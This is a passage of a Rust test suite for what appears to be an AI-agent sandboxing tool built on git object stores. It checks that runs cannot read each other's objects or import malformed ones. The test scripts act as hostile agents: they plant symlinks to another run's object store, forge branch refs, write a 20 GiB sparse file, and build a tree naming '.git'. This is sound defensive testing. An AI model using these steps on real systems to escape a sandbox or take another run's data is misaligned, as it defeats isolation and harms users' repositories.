        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(ran.is_empty(), "the user's `git status` ran planted commands: {ran:?}");
}

/// The agent's private object store is its own to fill: an object file it plants as a link to
/// another run's object, or names after another run's object, brings nothing of that run in
/// when its objects are imported, and its branch cannot be pointed at another run's commit.
#[test]
fn a_run_cannot_import_or_adopt_another_runs_objects() {
    let env = Env::new();
    let secret = format!("OTHERRUNSECRET-{}", random_hex(24));
    let (a, _) = env.json(&[
        "run",
        "--",
        "sh",
        "-c",
        &format!(
            "echo {secret} > secret.txt && git add secret.txt && git -c user.name=a -c user.email=a@b commit -qm secret"
        ),
    ]);
    let a = a["id"].as_str().unwrap().to_owned();
    let commit = git(&env.repo, &["rev-parse", &format!("agentctl/{a}")]);
    let commit = commit.trim();
    let blob = git(&env.repo, &["rev-parse", &format!("agentctl/{a}:secret.txt")]);
    let blob = blob.trim();
    let store = env.repo.join(".git/agentctl/stores").join(&a);
    // Run B knows A's ids (say, from a log) and the layout of the stores.
    let script = format!(
        r#"
objs=$(git rev-parse --git-path objects)
for id in {commit} {blob}; do
  d=$objs/$(echo $id | cut -c1-2); f=$(echo $id | cut -c3-)
  mkdir -p $d
  ln -sf {store}/$(echo $id | cut -c1-2)/$f $d/$f.link 2>/dev/null
  ln -sf {store}/$(echo $id | cut -c1-2)/$f $d/$f 2>/dev/null || : > $d/$f
done
git update-ref refs/heads/$AGENTCTL_BRANCH {commit} 2>&1 || echo "$(printf '%s' {commit})" > "$(git rev-parse --git-path refs/heads/$AGENTCTL_BRANCH)"
echo planted
"#,
        store = store.display()
    );
    let (b, _) = env.json(&["run", "--", "sh", "-c", &script]);
    let b = b["id"].as_str().unwrap().to_owned();
    assert!(env.logs(&b).contains("planted"), "{}", env.logs(&b));
    // The branch did not move to A's commit.
    let tip = git(&env.repo, &["rev-parse", &format!("agentctl/{b}")]);
    assert_ne!(tip.trim(), commit, "run B's branch was pointed at run A's commit");
    // A later sandbox of run B's cannot read A's objects; nor can any run's.
    let (c, _) = env.json(&[
        "run",
        "--",
        "sh",
        "-c",
        &format!(
            "git cat-file -p {blob}; git cat-file --batch-all-objects --batch | grep -a OTHERRUNSECRET; echo checked"
        ),
    ]);
    let log = env.logs(c["id"].as_str().unwrap());
    assert!(log.contains("checked"), "{log}");
    assert!(!log.contains(&secret), "a sandbox read run A's file: {log}");
    let b_store = env.repo.join(".git/agentctl/stores").join(&b);
    let mut files = Vec::new();
    all_files(&b_store, &mut files);
    for (path, bytes) in files {
        assert!(
            !contains(&bytes, blob.as_bytes()),
            "run B's store names A's blob: {}",
            path.display()
        );
    }
}

/// Git in the sandbox writes again an object the repository has (it cannot freshen a read-only
/// one): the import leaves such objects out of the run's store, so a `git gc` (which drops the
/// repository's copy of what an alternate holds) takes nothing from the user's history.
#[test]
fn objects_a_sandbox_rewrites_stay_the_repositorys_through_git_gc() {
    let env = Env::new();
    let (v, _) = env.json(&[
        "run",
        "--",
        "sh",
        "-c",
        "for f in $(git ls-files); do git hash-object -w \"$f\"; done; git ls-tree -r HEAD | wc -l",
    ]);
    assert_eq!(v["state"], "succeeded", "{v}");
    let id = v["id"].as_str().unwrap().to_owned();
    env.run(&["checkpoint", &id]);
    // None of the repository's objects is in the run's store.
    let store = env.repo.join(".git/agentctl/stores").join(&id);
    let mut in_store = String::new();
    for entry in std::fs::read_dir(&store).unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.len() == 2 {
            for obj in std::fs::read_dir(entry.path()).unwrap().flatten() {
                in_store.push_str(&format!("{name}{}\n", obj.file_name().to_string_lossy()));
            }
        }
    }
    for idx in std::fs::read_dir(store.join("pack")).unwrap().flatten() {
        if idx.path().extension().is_some_and(|e| e == "idx") {
            let out = Command::new("git")
                .arg("show-index")
                .stdin(std::fs::File::open(idx.path()).unwrap())
                .output()
                .unwrap();
            in_store.push_str(&stdout(&out));
        }
    }
    let repo_objects = git(&env.repo, &["rev-list", "--objects", "HEAD"]);
    for line in repo_objects.lines() {
        let id = line.split_whitespace().next().unwrap();
        assert!(!in_store.contains(id), "the run's store doubles {line}: {in_store}");
    }
    for args in [&["gc", "-q"][..], &["fsck", "--no-dangling"][..]] {
        let out = Command::new("git").current_dir(&env.repo).args(args).output().unwrap();
        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    }
    let (c, _) = env.json(&[
        "run",
        "--",
        "sh",
        "-c",
        "git log -p HEAD > /dev/null && for f in $(git ls-files); do git cat-file -e HEAD:\"$f\" || echo MISSING $f; done; echo READ-OK",
    ]);
    let log = env.logs(c["id"].as_str().unwrap());
    assert!(log.contains("READ-OK") && !log.contains("MISSING"), "{log}");
}

/// What the agent leaves in its object store is not trusted to be small or well formed: a
/// sparse file claiming 20 GiB is not copied, and a tree naming `.git` never reaches a store
/// the repository reads — the user's `git fsck` stays clean and the branch does not move.
#[test]
fn oversized_and_malformed_objects_are_not_imported() {
    let env = Env::new();
    let script = r#"
objs=$(git rev-parse --git-path objects)
mkdir -p $objs/ab && truncate -s 20G $objs/ab/cdef0123456789abcdef0123456789abcdef01
blob=$(echo payload | git hash-object -w --stdin)
tree=$(printf '100644 blob %s\t.git\n' $blob | git mktree --missing 2>&1) || tree=$(printf '100644 blob %s\t.GIT\n' $blob | git mktree)
commit=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m evil)
git update-ref refs/heads/$AGENTCTL_BRANCH $commit && echo "planted $tree"
"#;
    let (v, _) = env.json(&["run", "--", "sh", "-c", script]);
    let id = v["id"].as_str().unwrap().to_owned();
    assert!(env.logs(&id).contains("planted"), "{}", env.logs(&id));
    let base = v["base_commit"].as_str().unwrap().to_owned();
    assert_eq!(
        git(&env.repo, &["rev-parse", &format!("agentctl/{id}")]).trim(),
        base,
        "the branch moved to the malformed commit"
    );
    // (The worktree's own reflog, which the agent writes, may name the commit that was left
    // out: the objects are what is checked.)
    let out = Command::new("git")
        .current_dir(&env.repo)
        .args(["fsck", "--no-dangling", "--no-reflogs"])
        .output()
        .unwrap();
    assert!(out.status.success(), "git fsck: {}{}", stdout(&out), stderr(&out));
    // Nothing near 20 GiB was written anywhere under the state dir or the repository.
    let du = |p: &Path| {
        let out = Command::new("du").args(["-s", "-k"]).arg(p).output().unwrap();
        stdout(&out).split_whitespace().next().unwrap().parse::<u64>().unwrap()
    };
    assert!(du(&env.state) < 100 * 1024, "state dir holds {} KiB", du(&env.state));
    assert!(du(&env.repo) < 100 * 1024, "repository holds {} KiB", du(&env.repo));
}

/// A run's objects stand on their own (the repository's and its store): content another run
/// checkpointed already is stored again in this run's store, never named across stores — so
/// its sandbox can read its own checkpoints, and one run's store never holds up another's.
#[test]
fn a_runs_checkpoints_never_lean_on_another_runs_store() {
    let env = Env::new();
    let content = format!("SHARED-{}", random_hex(24));
    let script = format!("printf '%s\\n' {content} > same.txt");
    let (a, _) = env.json(&["run", "--", "sh", "-c", &script]);
    let (b, _) = env.json(&["run", "--", "sh", "-c", &script]);
    let blob = Command::new("git")
        .current_dir(&env.repo)
        .args(["hash-object", "--stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(format!("{content}\n").as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    let blob = stdout(&blob).trim().to_owned();
    for run in [&a, &b] {
        let id = run["id"].as_str().unwrap();
        let store = env.repo.join(".git/agentctl/stores").join(id);
        let found = Command::new("git")
            .current_dir(&env.repo)
            .env("GIT_OBJECT_DIRECTORY", &store)
            .args(["cat-file", "-e", &blob])
            .status()
            .unwrap();
        assert!(
            found.success(),
            "run {id}'s store lacks the content its checkpoint names"
        );
    }
}
